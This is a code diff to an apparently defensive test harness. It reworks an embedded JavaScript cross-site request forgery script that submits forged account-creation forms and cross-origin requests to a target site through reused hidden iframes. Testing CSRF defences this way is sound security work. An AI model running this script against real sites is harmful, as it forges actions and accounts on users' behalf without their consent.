@@ -35,21 +35,31 @@ ATTACK = """async ({target, paths, reads, bodies, dispatcher}) => {
   const form = "application/x-www-form-urlencoded";
   const fields = "username=mallory&email=m%40evil.example&password=a+long+enough+passphrase&again=x&csrf_token=x";
   const all = [];
+  // Four frames take the forms and pages in turn: a frame for each would be as many processes of the browser.
+  const frames = [0, 1, 2, 3].map((place) => document.body.appendChild(
+    Object.assign(document.createElement("iframe"), {name: "frame" + place})));
+  const lanes = frames.map(() => Promise.resolve());
+  let turn = 0;
+  const inFrame = (go) => {
+    const place = turn++ % frames.length, frame = frames[place];
+    lanes[place] = lanes[place].then(() => new Promise(done => {
+      frame.onload = done;
+      setTimeout(done, 1500);
+      go(frame);
+    }));
+  };
   for (const path of paths) {
     all.push(send(path, {method: "POST", mode: "no-cors", headers: {"Content-Type": form}, body: fields}));
     all.push(send(path, {method: "POST", mode: "no-cors", body: "{}"}));
     all.push(send(path, {method: "POST", mode: "cors", body: "{}"}));
     for (const enctype of [form, "multipart/form-data", "text/plain"]) {
-      const frame = document.body.appendChild(document.createElement("iframe"));
-      frame.name = "f" + Math.random();
       const made = document.body.appendChild(Object.assign(
-        document.createElement("form"), {action: target + path, method: "post", enctype, target: frame.name}));
+        document.createElement("form"), {action: target + path, method: "post", enctype}));
       for (const pair of fields.split("&")) {
         const [name, value] = pair.split("=");
         made.appendChild(Object.assign(document.createElement("input"), {name, value}));
       }
-      all.push(new Promise(done => { frame.onload = done; setTimeout(done, 1500); }));
-      made.submit();
+      inFrame((frame) => { made.target = frame.name; made.submit(); });
     }
   }
   for (const body of bodies) {
@@ -61,13 +71,12 @@ ATTACK = """async ({target, paths, reads, bodies, dispatcher}) => {
   }
   for (const path of reads) {
     all.push(send(path, {mode: "no-cors"}));
-    for (const tag of ["img", "iframe"]) {
-      const element = document.createElement(tag);
-      all.push(new Promise(done => { element.onload = element.onerror = done; setTimeout(done, 1500); }));
-      element.src = target + path;
-      document.body.appendChild(element);
-    }
+    const image = document.createElement("img");
+    all.push(new Promise(done => { image.onload = image.onerror = done; setTimeout(done, 1500); }));
+    image.src = target + path;
+    inFrame((frame) => { frame.src = target + path; });
   }
+  await Promise.all(lanes);
   await Promise.all(all);
 }"""
 
